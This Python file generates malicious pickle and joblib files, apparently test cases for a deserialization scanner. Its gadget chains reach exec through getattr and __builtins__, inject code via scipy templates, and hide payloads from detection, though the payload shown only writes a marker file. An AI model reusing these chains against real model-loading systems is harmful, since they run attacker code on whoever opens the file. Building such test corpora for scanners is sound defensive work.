"""Escapes by objects that hold functions, by values that calls make, and by arrays that lie."""

import struct

from pieces import *

SOURCE = "open('brine-marker','w').close()"
TEMPLATE = SOURCE + "\n" + "".join(
    f"def {name}(self,*a,**k): pass\n" for name in ("_parse_args", "_parse_args_rvs", "_parse_args_stats"))
EVIL_STATE = {"_parse_arg_template": TEMPLATE, "_ctor_param": ()}
DISTRIBUTION = name("scipy.stats._continuous_distns", "norm_gen")
NAMESPACE = name("types", "SimpleNamespace")
RESULT = name("scipy.optimize._optimize", "OptimizeResult")
GETATTR = name("builtins", "getattr")
LIST = name("builtins", "list")
TUPLE = name("builtins", "tuple")
STR = name("builtins", "str")
FLAGS = name("pandas.core.flags", "Flags")
NEW_KD = name("sklearn.neighbors._kd_tree", "newObj")


def namespace(**members):
    return build(call(NAMESPACE), members)


def append(value, *items):
    """APPENDS."""
    return Piece(opcodes(value) + b"(" + b"".join(map(opcodes, items)) + b"e")


class Overwritten:
    """Lists whose first item is replaced as soon as they were used."""

    def __init__(self):
        self.count = 0

    def tuple(self, items):
        self.count += 1
        key = bytes([self.count])
        made = b"]q" + key + b"(" + b"".join(map(opcodes, items)) + b"e"
        return opcodes(TUPLE) + made + b"\x85R", b"h" + key + b"K\x00Ns0"

    def partial(self, items):
        made, after = self.tuple([*items, {}, None])
        return Piece(opcodes(call(PARTIAL, LIST)) + made + b"b" + after)


def missing(function, more=(), count=1):
    """A tuple of what a function returns that is a dict's default, and more: iterating over the dict calls it."""
    made = call(DEFAULTDICT, function)
    if more:
        entries = b"".join(opcodes(index + 1) + opcodes(value) for index, value in enumerate(more))
        made = Piece(opcodes(made) + b"(" + entries + b"u")
    items = call(name("itertools", "islice"), build(new(name("collections", "UserList")), {"data": made}), count)
    return call(TUPLE, items)


def standard_library():
    """From getattr, which nothing seems to hold, to exec."""
    lists = Overwritten()
    inner = lists.partial([GETATTR, (name("statistics", "mean"), "__globals__")])
    get = lists.partial([GETATTR, missing(inner, ["get"], 2)])
    builtins = build(call(PARTIAL, LIST), missing(get, [("__builtins__",), {}, None], 4))
    get = lists.partial([GETATTR, missing(builtins, ["get"], 2)])
    execute = build(call(PARTIAL, LIST), missing(get, [("exec",), {}, None], 4))
    return missing(build(call(PARTIAL, LIST), missing(execute, [(SOURCE,), {}, None], 4)))


def holders():
    yield "held-standard-library.pkl", standard_library()
    yield "held-overwritten.pkl", Overwritten().partial([GETATTR, (1,)])
    state = call(TUPLE, [TYPE, ("M", (TYPE, FLAGS), {}), {}, None])
    yield "held-computed-partial.pkl", missing(build(call(PARTIAL, LIST), state))
    yield "held-new-partial.pkl", call(name("copyreg", "__newobj__"), PARTIAL, TYPE, "X", (), {})
    yield "held-new-partial-keywords.pkl", call(name("copyreg", "__newobj_ex__"), PARTIAL, (TYPE, "X", (), {}), {})
    yield "held-chain-map.pkl", call(
        name("builtins", "dict"), call(name("collections", "ChainMap"), call(DEFAULTDICT, FLAGS), {"k": 1}))
    rebuild = name("torch._tensor", "_rebuild_from_type_v2")
    yield "held-rebuild-type.pkl", call(rebuild, RESULT, 0, ({"as_subclass": DISTRIBUTION},), EVIL_STATE)
    yield "held-attribute.pkl", call(name("torch.nn.parameter", "Parameter"), namespace(detach=GETATTR))
    yield "held-uuid.pkl", call(name("uuid", "UUID"), namespace(replace=FLAGS))
    module = build(new(name("torch.nn.modules.linear", "Identity")), {"_modules": {"extend": FLAGS}})
    yield "held-module.pkl", append(module, 1)
    identity = build(
        call(name("numpy.random._pickle", "__bit_generator_ctor"), name("torch.nn.modules.linear", "Identity")),
        {"_forward_pre_hooks": {0: name("builtins", "divmod")}})
    yield "held-generator.pkl", call(name("numpy.random._pickle", "__generator_ctor"), "x", identity)
    yield "held-method.pkl", missing(call(GETATTR, "marker", "upper"))


def instances():
    yield "newobj-distribution.pkl", build(call(NEW_KD, DISTRIBUTION), EVIL_STATE)
    yield "newobj-namespace.pkl", call(NEW_KD, namespace(__new__=name("builtins", "repr")))
    alias = name("types", "GenericAlias")
    yield "alias-distribution.pkl", build(call(alias, new(DISTRIBUTION), ()), EVIL_STATE)
    yield "alias-module.pkl", build(call(alias, name("dill", "_dill"), ()), {"brine_marker": 1})
    yield "items-setstate.pkl", build(call(RESULT, {"__setstate__": name("builtins", "repr")}), [1])
    key = Piece(b"}" + opcodes(call(STR, "extend")) + opcodes(name("builtins", "hex")) + b"s")
    yield "computed-key.pkl", append(build(call(NAMESPACE), key), 1)
    state = call(TUPLE, [None, {"__class__": name("string", "Formatter")}])
    yield "computed-pair.pkl", build(new(name("string", "Template")), state)
    state = call(RESULT, {"extend": name("builtins", "hex")})
    yield "computed-result.pkl", append(build(call(NAMESPACE), state), 1)
    yield "codec-of-text.pkl", call(STR, b"a", "idna")
    cover = b"".join(b"cmylib\nName%d\n0" % number for number in range(1100))
    yield "many-names.pkl", b"\x80\x04" + cover + EVIL


def same_again():
    """Calls that return what they are given, what hands changes on, and what all of a process has."""
    for file, function in (
        ("same-tag.pkl", name("torch.jit._pickle", "restore_type_tag")), ("same-object.pkl", name("numpy", "object_"))):
        arguments = (new(DISTRIBUTION), 0) if file == "same-tag.pkl" else (new(DISTRIBUTION),)
        yield file, build(call(function, *arguments), EVIL_STATE)
    counter = name("collections", "Counter")
    union = call(name("_operator", "or_"), counter, counter)
    yield "same-union.pkl", build(union, (None, {"update": name("builtins", "dict")}))
    own = "\ndef _parse_args(self,  loc=0, scale=1):\n    return (), loc, scale\n\n"
    state = b"}q\x01" + opcodes("_parse_arg_template") + opcodes(own) + b"s0"
    chain = opcodes(call(name("collections", "ChainMap"), Piece(b"h\x01"))) + opcodes("_parse_arg_template")
    yield "chain-map.pkl", b"\x80\x04" + state + chain + opcodes(TEMPLATE) + b"s0" + opcodes(
        build(new(DISTRIBUTION), Piece(b"h\x01"))) + b"."
    members = b"}q\x01" + opcodes("__init__") + opcodes(name("builtins", "hex")) + b"s"
    yield "slots-seen-before.pkl", (
        b"\x80\x04" + opcodes(call(NAMESPACE)) + members + b"b0" + opcodes(counter) + b"Nh\x01\x86b.")
    yield "enumeration.pkl", build(call(name("ssl", "VerifyMode"), 2), {"_value_": 0})
    yield "shared-type.pkl", build(call(name("numpy", "dtype"), "f8"), (3, ">", None, None, None, -1, -1, 0))
    letters = "".join("\\u%04x" % ord(letter) for letter in "__array_interface__")
    interface = b"}V" + letters.encode() + b"\n" + opcodes(
        {"shape": (1,), "typestr": "<i8", "data": (0x41414141, False), "version": 3}) + b"s"
    yield "interface-in-escapes.pkl", call(name("numpy", "matrix"), build(call(NAMESPACE), Piece(interface)))


def arrays():
    dtype = call(name("numpy", "dtype"), "V8", False, True)
    field = call(name("numpy", "dtype"), "O8", False, True)
    lying = build(dtype, (3, "|", None, ("a",), {"a": (field, 0)}, 8, 1, 0))
    empty = call(name("numpy._core.multiarray", "_reconstruct"), name("numpy", "ndarray"), (0,), b"b")
    yield "dtype-flags.pkl", build(empty, (1, (1,), lying, False, b"A" * 8))
    objects = call(name("numpy", "dtype"), [("a", "O")])
    yield "array-of-bytes.pkl", call(STR, call(name("numpy", "ndarray"), (1,), objects, b"A" * 16))
    interface = namespace(
        __array_interface__={"shape": (1,), "typestr": "<i8", "data": (0x41414141, False), "version": 3})
    yield "array-interface.pkl", call(name("numpy", "float64"), interface)
    matrix = call(name("numpy", "matrix"), interface, None, False)
    yield "array-interface-write.pkl", Piece(opcodes(matrix) + opcodes(0) + opcodes(1) + b"s")


def wrappers():
    """The bytes that joblib takes for an array hide from it what stands behind them, and from others what stands in them."""
    wrapper = name("joblib.numpy_pickle", "NumpyArrayWrapper")
    dtype = call(name("numpy", "dtype"), "u1", False, True)
    state = {"subclass": name("numpy", "ndarray"), "shape": (5,), "order": "C", "dtype": dtype, "allow_mmap": False}
    tail = b"0N0" + EVIL
    hiding = b"X" + struct.pack("<I", len(tail)) + tail

    def file(value):
        return b"\x80\x04" + opcodes(value) + hiding + b"."

    yield "joblib-pair.joblib", file(build(new(wrapper), (state, None)))
    yield "joblib-newobj.joblib", file(build(call(NEW_KD, wrapper), state))
    yield "joblib-copyreg.joblib", file(build(call(name("copyreg", "__newobj__"), wrapper), state))
    entries = Piece(opcodes({**state, "shape": (0,)}) + opcodes(call(STR, "shape")) + opcodes((5,)) + b"s")
    yield "joblib-computed-key.joblib", file(build(new(wrapper), entries))
    first = opcodes(new(wrapper)) + b"q\x01" + opcodes({**state, "shape": (0,)}) + b"b0"
    yield "joblib-built-again.joblib", b"\x80\x04" + first + b"h\x01" + opcodes({"shape": (5,)}) + b"b" + hiding + b"."


CASES = (holders, instances, same_again, arrays, wrappers)
